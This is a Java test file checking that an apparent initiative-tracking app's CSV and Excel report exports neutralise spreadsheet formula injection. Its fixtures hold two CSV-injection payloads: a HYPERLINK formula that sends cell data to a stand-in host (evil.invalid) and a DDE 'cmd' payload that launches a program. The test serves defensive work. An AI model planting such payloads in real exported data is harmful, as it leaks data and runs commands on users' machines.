package jp.shisakuflow.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import jp.shisakuflow.initiative.InitiativeLifecycleService;
import jp.shisakuflow.initiative.InitiativeStart;
import jp.shisakuflow.organization.OrganizationGroup;
import jp.shisakuflow.support.ApiTest;
import jp.shisakuflow.support.TestUsers;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;

/**
 * A title and a comment written as spreadsheet formulas (CSV injection) come out of every CSV as text
 * that a spreadsheet does not run, and out of the workbook as string cells.
 */
@ApiTest
class CsvInjectionTest {

  static final int YEAR = 2048;
  static final String TITLE = "=HYPERLINK(\"https://evil.invalid/?q=\"&A1,\"詳細\")";
  static final String COMMENT = "=cmd|' /C calc'!A0";
  static final String INITIATIVE = "formula-title";
  private static boolean started;

  @Autowired TestRestTemplate http;
  @Autowired IdentityService identityService;
  @Autowired InitiativeLifecycleService initiatives;
  @Autowired TaskService taskService;

  @BeforeEach
  void initiativeWithFormulas() {
    TestUsers.ensure(identityService, "manager", OrganizationGroup.MANAGERS);
    TestUsers.ensure(identityService, "auditor", OrganizationGroup.AUDITORS);
    if (started) {
      return;
    }
    String instance = initiatives.startIfAbsent(InitiativeStart.unplanned(INITIATIVE, TITLE, "other", "wardTakatsu",
        YEAR)).orElseThrow();
    taskService.createComment(null, instance, COMMENT);
    started = true;
  }

  @Test
  void theQuarterlyCsvQuotesTheFormulas() throws Exception {
    var response = as("manager").getForEntity("/api/reports/quarterly?fiscalYear={y}&quarter=1&format=csv",
        byte[].class, YEAR);
    assertThat(response.getStatusCode().value()).isEqualTo(200);
    CSVRecord row = csv(response.getBody()).stream().filter(r -> r.get("施策ID").equals(INITIATIVE)).findFirst()
        .orElseThrow();
    assertThat(row.get("施策名")).isEqualTo("'" + TITLE);
    assertThat(row.get("最新のコメント")).isEqualTo("'" + COMMENT);
    assertThat(row.get("年度")).as("numbers stay numbers").isEqualTo(String.valueOf(YEAR));
    assertThat(row.get("遅延日数")).isEqualTo("0");
  }

  @Test
  void theAuditCsvQuotesTheFormulas() throws Exception {
    var response = as("auditor").getForEntity("/api/audit/initiatives/FY{y}-{id}?format=csv", byte[].class, YEAR,
        INITIATIVE);
    assertThat(response.getStatusCode().value()).isEqualTo(200);
    List<CSVRecord> records = csv(response.getBody());
    assertThat(records).anySatisfy(r -> assertThat(r.get("内容")).isEqualTo("'" + COMMENT));
    assertThat(records).anySatisfy(r -> assertThat(r.get("変更後")).isEqualTo("'" + TITLE));
    for (CSVRecord record : records) {
      for (String cell : record) {
        assertThat(cell).doesNotStartWith("=");
      }
    }
  }

  @Test
  void theWorkbookHoldsTheFormulasAsLiteralText() throws Exception {
    var response = as("manager").getForEntity("/api/reports/quarterly?fiscalYear={y}&quarter=1", byte[].class, YEAR);
    assertThat(response.getStatusCode().value()).isEqualTo(200);
    try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(response.getBody()))) {
      Row row = null;
      for (var sheet : workbook) {
        for (Row r : sheet) {
          if (r.getCell(0) != null && r.getCell(0).toString().equals(INITIATIVE)) {
            row = r;
          }
        }
      }
      assertThat(row).as("the initiative's row").isNotNull();
      Cell title = row.getCell(1);
      Cell comment = row.getCell(XlsxReportWriter.INITIATIVE_HEADER.indexOf("最新のコメント"));
      assertThat(title.getCellType()).isEqualTo(CellType.STRING);
      assertThat(title.getStringCellValue()).isEqualTo(TITLE);
      assertThat(comment.getCellType()).isEqualTo(CellType.STRING);
      assertThat(comment.getStringCellValue()).isEqualTo(COMMENT);
    }
  }

  private TestRestTemplate as(String user) {
    return http.withBasicAuth(user, TestUsers.PASSWORD);
  }

  private static List<CSVRecord> csv(byte[] body) throws Exception {
    String text = new String(body, StandardCharsets.UTF_8);
    assertThat(text).startsWith("\uFEFF");
    return CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(text.substring(1))).getRecords();
  }
}
